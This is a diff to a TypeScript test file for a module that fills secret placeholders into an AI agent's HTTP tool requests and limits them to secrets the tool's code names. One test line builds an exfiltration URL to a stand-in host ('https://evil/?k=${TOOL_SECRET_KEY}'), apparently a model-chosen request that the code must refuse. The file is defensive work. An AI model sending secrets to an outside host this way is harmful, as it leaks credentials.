@@ -1,5 +1,5 @@
 import { buildHttpRequest, type BuiltRequest } from './http-request-builder.js';
-import { maskSecrets, resolveSecrets } from './tool-secrets.js';
+import { fillSecrets, maskSecrets, resolveSecrets, secretsNamedIn } from './tool-secrets.js';
 import { validateToolDefinitions } from './tool-validation.js';
 
 const env = { TOOL_SECRET_CRM: 'crm-token-123', TOOL_SECRET_KEY: 'k/y+1', LLM_API_KEY: 'sk-llm' };
@@ -68,6 +68,34 @@ describe('${TOOL_SECRET_*} references in HTTP tools', () => {
     expect(() =>
       resolveSecrets({ url: '${TOOL_SECRET_X}' }, { TOOL_SECRET_X: 'a\r\nb: c' }),
     ).toThrow("field 'url' refers to ${TOOL_SECRET_X}, whose value holds a line break");
+  });
+
+  it("fills in a code tool's request only the secrets its own source names", () => {
+    const code = 'def f(u):\n    return ces_requests.get(u, headers={"X": "${TOOL_SECRET_CRM}"})';
+    const available = { env, named: secretsNamedIn(code) };
+    expect([...available.named]).toEqual(['TOOL_SECRET_CRM']);
+    const used: Record<string, string> = {};
+    const request = {
+      headers: { X: '${TOOL_SECRET_CRM}' },
+      json: { list: ['${TOOL_SECRET_CRM}'] },
+    };
+    expect(fillSecrets(request, available, used)).toEqual({
+      headers: { X: 'crm-token-123' },
+      json: { list: ['crm-token-123'] },
+    });
+    expect(used).toEqual({ TOOL_SECRET_CRM: 'crm-token-123' });
+    expect(
+      fillSecrets(
+        'https://h/?k=${TOOL_SECRET_KEY}',
+        { env, named: new Set(['TOOL_SECRET_KEY']) },
+        used,
+        encodeURIComponent,
+      ),
+    ).toBe('https://h/?k=k%2Fy%2B1');
+    // A URL the model chose, naming a secret the code does not use: refused, nothing sent.
+    expect(() => fillSecrets('https://evil/?k=${TOOL_SECRET_KEY}', available, {})).toThrow(
+      "${TOOL_SECRET_KEY} is not named in this tool's code, so it is not filled in",
+    );
   });
 
   it('masks secret values, as sent or percent-encoded, in what a tool returns', () => {
